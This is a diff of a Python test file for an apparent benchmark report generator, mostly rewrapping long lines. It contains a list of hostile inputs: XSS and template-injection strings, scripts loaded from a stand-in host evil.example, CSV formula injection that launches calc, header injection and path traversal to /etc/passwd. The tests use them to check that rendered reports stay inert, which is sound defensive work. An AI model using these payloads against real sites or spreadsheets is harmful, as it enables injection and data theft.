@@ -15,27 +15,31 @@ from d2lbench.report import render_claims_text, write_report
 from d2lbench.report.escape import csv_cell, markdown, plain, slug, stem
 
 PAYLOADS = (
-    "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
-    "\"><script src=https://evil.example/x.js></script>", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="',
-    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</svg><script>alert(1)</script>",
-    "<!--", "-->", "<![CDATA[", "]]><script>alert(1)</script>", "<iframe src=//evil.example>", "<base href=//evil.example/>",
+    "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>", '"><script src=https://evil.example/x.js></script>', "' onmouseover='alert(1)",
+    '" onfocus="alert(1)" autofocus="', "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
+    "</svg><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]><script>alert(1)</script>",
+    "<iframe src=//evil.example>", "<base href=//evil.example/>",
     "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/a.css>",
     "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
-    "<style>@import '//evil.example/a.css';</style>", "background:url(https://evil.example/a.png)", "&lt;script&gt;", "&#60;script&#62;",
-    "{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "${7*7}", "#{7*7}", "%n%s%x",
-    "![x](https://evil.example/a.png)", "[x](javascript:alert(1))", "[x]: https://evil.example", "<https://evil.example>",
-    "https://evil.example/track", "www.evil.example", "mailto:a@evil.example", "| a | b |", "a\\|b\\", "`code` ``", "```\nfence",
-    "# heading", "- item", "+ item", "1. item", "1) item", "> quote", "---", "===", "***bold***", "__init__", "~~gone~~", "$\\frac{1}{0}$", "$$",
-    "a\n\n<script>alert(1)</script>", "a\r\nSet-Cookie: x", "tab\tstop", "null\x00byte", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "\x08\x08\x08",
-    "\u202egnp.exe", "\u2066isolated\u2069", "\u2028line\u2029", "zero\u200bwidth", "\ud800surrogate", "\ufffe\uffff", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)",
-    "\t=1+1", "\r=1+1", "  =1+1", "=HYPERLINK(\"https://evil.example\")", "%0a=1", "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con",
-    "CON", "a" * 5000, "日本語の題", "🔥" * 20, "\u0301" * 50, "", " ", ".", "x'\"&<>/\\`",
+    "<style>@import '//evil.example/a.css';</style>", "background:url(https://evil.example/a.png)", "&lt;script&gt;",
+    "&#60;script&#62;", "{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "${7*7}", "#{7*7}", "%n%s%x", "![x](https://evil.example/a.png)", "[x](javascript:alert(1))",
+    "[x]: https://evil.example", "<https://evil.example>", "https://evil.example/track", "www.evil.example",
+    "mailto:a@evil.example", "| a | b |", "a\\|b\\", "`code` ``", "```\nfence", "# heading", "- item", "+ item",
+    "1. item", "1) item", "> quote", "---", "===", "***bold***", "__init__", "~~gone~~", "$\\frac{1}{0}$", "$$",
+    "a\n\n<script>alert(1)</script>", "a\r\nSet-Cookie: x", "tab\tstop", "null\x00byte", "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07", "\x9b31m", "\x08\x08\x08", "\u202egnp.exe", "\u2066isolated\u2069", "\u2028line\u2029",
+    "zero\u200bwidth", "\ud800surrogate", "\ufffe\uffff", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1",
+    "\r=1+1", "  =1+1", '=HYPERLINK("https://evil.example")', "%0a=1", "../../../etc/passwd",
+    "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con", "CON", "a" * 5000, "日本語の題", "🔥" * 20, "\u0301" * 50, "",
+    " ", ".", 'x\'"&<>/\\`',
 )  # fmt: skip
 TAGS = {
-    "html", "head", "meta", "title", "style", "body", "a", "nav", "ul", "li", "main", "header", "p", "h1", "h2", "h3", "h4",
-    "section", "div", "span", "strong", "table", "thead", "tbody", "tr", "th", "td", "caption", "dl", "dt", "dd", "code",
-    "article", "figure", "figcaption", "details", "summary", "footer", "svg", "g", "path", "use", "defs", "text", "rect",
-    "line", "circle", "clippath",
+    "html", "head", "meta", "title", "style", "body", "a", "nav", "ul", "li", "main", "header", "p", "h1",
+    "h2", "h3", "h4", "section", "div", "span", "strong", "table", "thead", "tbody", "tr", "th", "td",
+    "caption", "dl", "dt", "dd", "code", "article", "figure", "figcaption", "details", "summary", "footer",
+    "svg", "g", "path", "use", "defs", "text", "rect", "line", "circle", "clippath",
 }  # fmt: skip
 MARKUP = TAGS | {"em", "img", "hr"}
 
@@ -63,12 +67,12 @@ def hostile(make, payloads):
     sections = []
     for i, text in enumerate(payloads):
         given = make["spec"](
-            f"{text}{i}", text, 0.02, 0.005, origin=text, source=text, metric=text, statistic=text, unit=text, first=text,
-            second=text, parts=1 + i % 2, seeds=(0, 1, 2, 3), picks=True, view={"suite_word": text},
+            f"{text}{i}", text, 0.02, 0.005, origin=text, source=text, metric=text, statistic=text, unit=text,
+            first=text, second=text, parts=1 + i % 2, seeds=(0, 1, 2, 3), picks=True, view={"suite_word": text},
         )  # fmt: skip
         made = make["section"](
-            f"{text}{i}", text, [given], question=text, size=text, setting=((text, text),), reasons=((text, 1),), figures=(),
-            checks=(CheckView(text, text, False, text),), data=((text, text),),
+            f"{text}{i}", text, [given], question=text, size=text, setting=((text, text),), reasons=((text, 1),),
+            figures=(), checks=(CheckView(text, text, passed=False, detail=text),), data=((text, text),),
         )  # fmt: skip
         claim = make["replace"](made.claims[0], kind=text, scale=text, margin_reason=text)
         seeds = tuple(make["replace"](seed, first_pick=text, second_pick=text) for seed in claim.parts[0].seeds)
@@ -78,11 +82,17 @@ def hostile(make, payloads):
         figures = ()
         if i % 4 == 0:
             curves = (make["curve"](text or "x", 0.9), make["curve"](f"{text}2", 0.8, baseline=True))
-            figures = (FigureGroup(text, text, (Panel(text, text, text, curves, reference=0.5, reference_label=text),)),)
+            figures = (
+                FigureGroup(text, text, (Panel(text, text, text, curves, reference=0.5, reference_label=text),)),
+            )
         if i % 12 == 0:
             heat = HeatMap(text, text, text, (text,), (text, f"{text}2"), ((0.5, 0.7),), text)
             figures = (*figures, FigureGroup(text, text, maps=(heat,)))
-        sections.append(make["replace"](made, scale=text, claims=(make["replace"](claim, parts=parts),), table=table, figures=figures))
+        sections.append(
+            make["replace"](
+                made, scale=text, claims=(make["replace"](claim, parts=parts),), table=table, figures=figures
+            )
+        )
     text = " ".join(payloads)
     return make["report"](
         *sections, scale=text, command=text, environment=text, provenance=((text, text),), untested=((text, text),),
@@ -136,7 +146,9 @@ def test_markdown_holds_only_our_own_tags_and_links(folder):
     for name, value in seen.attributes:
         assert name in {"href", "src", "alt", "id", "style", "class"}, name
         if name in {"href", "src"}:
-            assert re.fullmatch(r"#[-\w]+|figures/[-\w]+\.svg|(seeds|claims)\.csv|recompute\.py|report\.html", value), value
+            assert re.fullmatch(r"#[-\w]+|figures/[-\w]+\.svg|(seeds|claims)\.csv|recompute\.py|report\.html", value), (
+                value
+            )
     said = " ".join(" ".join(seen.said).split())
     for payload in PAYLOADS:
         assert plain(payload) in said, payload
@@ -176,7 +188,13 @@ def test_text_in_a_table_never_starts_a_formula(payload):
 
 
 def test_numbers_in_a_table_keep_every_digit():
-    assert [csv_cell(value) for value in (-0.1, 0.1 + 0.2, 3, True, None)] == ["-0.1", "0.30000000000000004", "3", "true", ""]
+    assert [csv_cell(value) for value in (-0.1, 0.1 + 0.2, 3, True, None)] == [
+        "-0.1",
+        "0.30000000000000004",
+        "3",
+        "true",
+        "",
+    ]
 
 
 @pytest.mark.parametrize("width", [40, 100])
@@ -199,7 +217,7 @@ def test_figures_are_well_formed_and_inert(folder):
     assert len(files) > len(PAYLOADS)
     said = ""
     for path in files:
-        root = ET.fromstring(path.read_bytes())
+        root = ET.fromstring(path.read_bytes())  # noqa: S314  (our own file)
         for element in root.iter():
             tag = element.tag.rpartition("}")[2]
             assert tag in {"svg", "title", "g", "path", "use", "defs", "text", "rect", "clipPath"}, tag
@@ -216,7 +234,12 @@ def test_no_text_of_a_user_forms_a_path(folder):
     for path in folder.parent.rglob("*"):
         assert path.resolve().is_relative_to(folder.parent.resolve())
     names = [path.name for path in folder.rglob("*")]
-    assert all(re.fullmatch(r"[a-z0-9-]{1,41}-[0-9a-f]{10}\.svg|(report\.(html|md)|(claims|seeds)\.csv|recompute\.py|figures)", n) for n in names)
+    assert all(
+        re.fullmatch(
+            r"[a-z0-9-]{1,41}-[0-9a-f]{10}\.svg|(report\.(html|md)|(claims|seeds)\.csv|recompute\.py|figures)", n
+        )
+        for n in names
+    )
     assert sorted(path.name for path in folder.parent.iterdir()) == ["report"]
 
 
